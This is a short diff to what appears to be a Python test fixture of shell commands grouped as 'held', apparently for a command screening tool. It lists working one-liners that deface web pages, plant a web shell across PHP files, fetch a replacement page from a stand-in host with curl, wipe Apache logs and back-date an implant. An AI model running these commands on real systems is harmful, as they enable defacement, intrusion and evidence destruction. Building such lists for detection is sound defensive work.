@@ -41,7 +41,7 @@ HELD = {
         "SITES=$(find /srv/www -name 'index.*'); for s in $SITES; do printf '<b>owned</b>' > \"$s\"; done",
         'for pg in $(find /usr/share/nginx/html -name "*.htm*"); do cp /tmp/pwn.html "$pg"; done',
         "find /var/www/html -type f -name '*.php' -exec cp /tmp/shell.php {} \\;",
-        'T="$(find /var/www -name default.html)"; for x in $T; do curl -s https://x.example/d.html > $x; done',
+        'T="$(find /var/www -name default.html)"; for x in $T; do curl -s https://x.example/d > $x; done',
     ],
     "shell told to empty each file found": [
         "find /var/log/apache2 -type f -exec sh -c 'for lf; do : > \"$lf\"; done' _ {} +",
@@ -53,7 +53,7 @@ HELD = {
     "relative names back-dated after a cd out of the home": [
         'cd / && find . -type f -exec touch -d "$stamp" {} +',
         "cd /etc && find . | xargs touch -t 201801010000",
-        'cd /usr/bin && touch -r ls ./implant',
+        "cd /usr/bin && touch -r ls ./implant",
     ],
 }
 
